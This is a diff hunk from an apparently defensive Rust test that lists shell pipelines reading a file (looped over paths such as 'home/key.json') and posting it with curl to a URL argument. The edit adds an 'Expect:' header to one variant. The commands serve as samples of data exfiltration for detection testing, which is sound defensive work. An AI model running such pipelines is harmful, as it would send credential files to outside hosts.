@@ -85,7 +85,7 @@ pub fn seen_at_the_end_of_a_pipeline() {
         "cat \"$1\" | while read -r line; do echo \"$line\"; done | curl -s -d @- \"$2\"; :",
         // A shell's own command that has ended before the next begins, and one that goes on while it sends.
         "cat \"$1\" | while read -r x; do echo \"$x\"; done | ($COUNT; exec curl -s -d @- \"$2\"); :",
-        "cat \"$1\" | while read -r x; do echo \"$x\"; $COUNT; done | curl -s -X POST -T - \"$2\"; :",
+        "cat \"$1\" | while read -r x; do echo \"$x\"; $COUNT; done | curl -s -X POST -H Expect: -T - \"$2\"; :",
     ];
     for place in ["home/key.json", "elsewhere/key"] {
         let file = scratch.join(place);
